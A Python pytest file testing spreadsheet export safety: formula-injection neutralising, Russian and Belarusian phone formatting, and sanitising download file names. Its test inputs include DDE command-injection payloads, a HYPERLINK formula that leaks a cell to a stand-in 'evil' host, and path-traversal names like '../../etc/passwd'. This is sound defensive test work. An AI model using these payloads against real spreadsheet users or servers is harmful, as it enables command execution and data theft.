"""Formula-injection neutralising, exported phone forms and safe download names."""

import pytest

from domain.phones import normalize_phone
from domain.spreadsheet_safety import csv_phone, neutralize_cell, restore_cell, safe_filename, xlsx_phone


@pytest.mark.parametrize(
    ('text', 'expected'),
    [
        ('=1+1', "'=1+1"),
        ('+79161234567', "'+79161234567"),
        ('-5', "'-5"),
        ('@SUM(A1)', "'@SUM(A1)"),
        ('\t=1+1', "'\t=1+1"),
        ('\r=1+1', "'\r=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://evil/?x="&A1,"click")', '\'=HYPERLINK("http://evil/?x="&A1,"click")'),
    ],
)
def test_dangerous_first_characters_get_an_apostrophe(text: str, expected: str) -> None:
    assert neutralize_cell(text) == expected
    assert restore_cell(expected) == text


@pytest.mark.parametrize('text', ["'=1+1", "''-5", "'", "'plain", "''", '=x', 'x'])
def test_restoring_a_neutralized_cell_gives_the_original_back(text: str) -> None:
    assert restore_cell(neutralize_cell(text)) == text


@pytest.mark.parametrize(
    'text',
    ['', 'Иванов', 'заказ 12345', 'a=b', '1+1', "O'Brien", ' =1+1 in the middle', '12.05.1990', 'Город Москва'],
)
def test_harmless_values_are_unchanged(text: str) -> None:
    assert neutralize_cell(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize(
    ('e164', 'xlsx', 'csv'),
    [
        ('+79161234567', '+7 916 123-45-67', '8 916 123-45-67'),
        ('+74951234567', '+7 495 123-45-67', '8 495 123-45-67'),
        ('+77272583434', '+7 727 258-34-34', '8 727 258-34-34'),
        ('+375291234567', '+375 29 123-45-67', '00375 29 123-45-67'),
    ],
)
def test_exported_phones_read_back_to_the_same_number(e164: str, xlsx: str, csv: str) -> None:
    assert (xlsx_phone(e164), csv_phone(e164)) == (xlsx, csv)
    assert normalize_phone(xlsx) == normalize_phone(csv) == e164


@pytest.mark.parametrize('e164', ['+79161234567', '+375291234567', '+12025550123'])
def test_csv_phones_are_neither_formulas_nor_plain_numbers(e164: str) -> None:
    phone = csv_phone(e164)
    assert neutralize_cell(phone) == phone
    assert ' ' in phone and not phone.replace(' ', '').isdigit()


@pytest.mark.parametrize(
    ('name', 'expected'),
    [
        ('Клиенты 2026', 'Клиенты 2026.xlsx'),
        ('../../etc/passwd', 'etc_passwd.xlsx'),
        ('a\\b/c', 'a_b_c.xlsx'),
        ('..', 'base.xlsx'),
        ('.hidden', 'hidden.xlsx'),
        ('   ', 'base.xlsx'),
        ('отчёт: "май" <1>?*|', 'отчёт_ _май_ _1.xlsx'),
        ('line\nbreak\x00', 'line_break.xlsx'),
        ('я' * 300, 'я' * 100 + '.xlsx'),
    ],
)
def test_download_names_keep_cyrillic_and_lose_paths(name: str, expected: str) -> None:
    assert safe_filename(name, 'xlsx') == expected
    assert '/' not in expected and '\\' not in expected
